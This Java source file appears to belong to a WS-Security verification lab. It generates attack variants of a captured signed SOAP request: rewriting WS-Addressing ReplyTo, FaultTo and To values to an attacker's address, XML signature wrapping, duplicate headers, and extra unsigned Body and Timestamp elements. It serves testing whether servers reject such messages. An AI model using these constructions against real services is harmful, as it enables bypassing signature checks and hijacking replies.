package org.wsslab.verification.control;

import java.net.URI;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.Base64;
import java.util.UUID;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;
import org.wsslab.catalog.entity.Mechanism;

/**
 * The attacks of the WS-Addressing class, made from a captured, valid request: each alters exactly
 * the header, body or timestamp it names (AddressingAttacksTest undoes the alteration and finds the
 * control). They work on the parsed document and write it back, so their control is the captured
 * request written back the same way ({@link #rewritten(byte[])}): a refusal cannot be the writing's.
 */
public final class AddressingAttacks {

    static final String WSA = "http://www.w3.org/2005/08/addressing";
    private static final DateTimeFormatter WSU_TIME = DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm:ss.SSS'Z'")
            .withZone(ZoneOffset.UTC);

    /** The signed headers the attacks alter, and what each becomes. */
    public enum Header {
        TO("To"),
        ACTION("Action"),
        MESSAGE_ID("MessageID"),
        REPLY_TO("ReplyTo"),
        FAULT_TO("FaultTo");

        private final String localName;

        Header(String localName) {
            this.localName = localName;
        }

        public String localName() {
            return localName;
        }

        /** Whether the server sends something to the address this header holds: its reply, or its fault. */
        public boolean routesAnswers() {
            return this == REPLY_TO || this == FAULT_TO;
        }

        /** Whether the header holds an address: the attacker's value is then an address of the attacker's. */
        public boolean holdsAddress() {
            return this != ACTION && this != MESSAGE_ID;
        }

        /** The attacker's value: the attacker's address where the header holds one, another action or id otherwise. */
        String attackersValue(URI attacker) {
            return switch (this) {
                case TO, REPLY_TO, FAULT_TO -> attacker.toString();
                case ACTION -> "urn:wsslab:attack:action";
                case MESSAGE_ID -> "urn:uuid:" + UUID.randomUUID();
            };
        }
    }

    /** Where the attacker's element goes: before the signed one, or after it. */
    public enum Placement {
        BEFORE,
        AFTER
    }

    private AddressingAttacks() {
    }

    /** The captured request parsed and written back, unaltered: the control of this class. */
    public static byte[] rewritten(byte[] request) {
        return MessageAttacks.write(MessageAttacks.parse(request));
    }

    /** The signed header's value replaced in place; its Id, so its signature's reference, kept. */
    public static byte[] altered(byte[] request, Header header, URI attacker) {
        Document document = MessageAttacks.parse(request);
        setValue(header(document, header), header, attacker);
        return MessageAttacks.write(document);
    }

    /**
     * The signed header moved, unchanged, into a new header block before all others, where a resolver
     * by Id still finds it; in its place an altered copy without an Id. A receiver that checks that the
     * referenced element is signed, but not that it is the header it acts on, follows the copy.
     */
    public static byte[] wrapped(byte[] request, Header header, URI attacker) {
        Document document = MessageAttacks.parse(request);
        Element original = header(document, header);
        Element copy = unsignedCopy(original, header, attacker);
        Node soapHeader = original.getParentNode();
        soapHeader.replaceChild(copy, original);
        Element wrapper = document.createElementNS(MessageAttacks.WRAPPER_NAMESPACE, "w:Wrapper");
        wrapper.appendChild(original);
        soapHeader.insertBefore(wrapper, soapHeader.getFirstChild());
        return MessageAttacks.write(document);
    }

    /** An altered copy of the signed header, without an Id, beside the original (which stays as it was). */
    public static byte[] duplicated(byte[] request, Header header, URI attacker, Placement placement) {
        Document document = MessageAttacks.parse(request);
        Element original = header(document, header);
        Element copy = unsignedCopy(original, header, attacker);
        original.getParentNode().insertBefore(copy, placement == Placement.BEFORE ? original : original.getNextSibling());
        return MessageAttacks.write(document);
    }

    /** A second SOAP Body, unsigned, holding an echo request for {@code payload}, before or after the signed one. */
    public static byte[] withSecondBody(byte[] request, byte[] payload, Placement placement) {
        Document document = MessageAttacks.parse(request);
        Element body = MessageAttacks.body(document);
        Element second = document.createElementNS(body.getNamespaceURI(), body.getTagName());
        Element echo = document.createElementNS(Mechanism.NAMESPACE, "e:echo");
        Element text = document.createElementNS(null, "payload");
        text.setTextContent(Base64.getEncoder().encodeToString(payload));
        echo.appendChild(text);
        second.appendChild(echo);
        body.getParentNode().insertBefore(second, placement == Placement.BEFORE ? body : body.getNextSibling());
        return MessageAttacks.write(document);
    }

    /** A second Timestamp, unsigned and without an Id, first in the security header (before the signed one). */
    public static byte[] withSecondTimestamp(byte[] request, Instant created, Instant expires) {
        Document document = MessageAttacks.parse(request);
        Element security = (Element) document.getElementsByTagNameNS(MessageAttacks.WSSE, "Security").item(0);
        if (security == null) {
            throw new IllegalArgumentException("the request has no WS-Security header to add a timestamp to");
        }
        Element stamp = document.createElementNS(Restamping.WSU, "wsu:Timestamp");
        stamp.appendChild(child(document, "wsu:Created", WSU_TIME.format(created)));
        stamp.appendChild(child(document, "wsu:Expires", WSU_TIME.format(expires)));
        security.insertBefore(stamp, security.getFirstChild());
        return MessageAttacks.write(document);
    }

    private static Element child(Document document, String name, String text) {
        Element element = document.createElementNS(Restamping.WSU, name);
        element.setTextContent(text);
        return element;
    }

    private static Element unsignedCopy(Element original, Header header, URI attacker) {
        Element copy = (Element) original.cloneNode(true);
        copy.removeAttributeNS(Restamping.WSU, "Id");
        setValue(copy, header, attacker);
        return copy;
    }

    private static void setValue(Element element, Header header, URI attacker) {
        Element holder = element;
        if (header.routesAnswers()) {
            holder = (Element) element.getElementsByTagNameNS(WSA, "Address").item(0);
            if (holder == null) {
                throw new IllegalArgumentException("the request's wsa:" + header.localName() + " has no Address");
            }
        }
        holder.setTextContent(header.attackersValue(attacker));
    }

    /**
     * The header, a direct child of the SOAP header: signed where the mechanism signs it (its wsu:Id
     * is what the signature refers to), plain where nothing is signed.
     */
    private static Element header(Document document, Header header) {
        Element envelope = document.getDocumentElement();
        for (Node part = envelope.getFirstChild(); part != null; part = part.getNextSibling()) {
            if (part instanceof Element soapHeader && "Header".equals(soapHeader.getLocalName())) {
                for (Node block = soapHeader.getFirstChild(); block != null; block = block.getNextSibling()) {
                    if (block instanceof Element element && WSA.equals(element.getNamespaceURI())
                            && header.localName().equals(element.getLocalName())) {
                        return element;
                    }
                }
            }
        }
        throw new IllegalArgumentException("the request has no wsa:" + header.localName() + " header");
    }
}
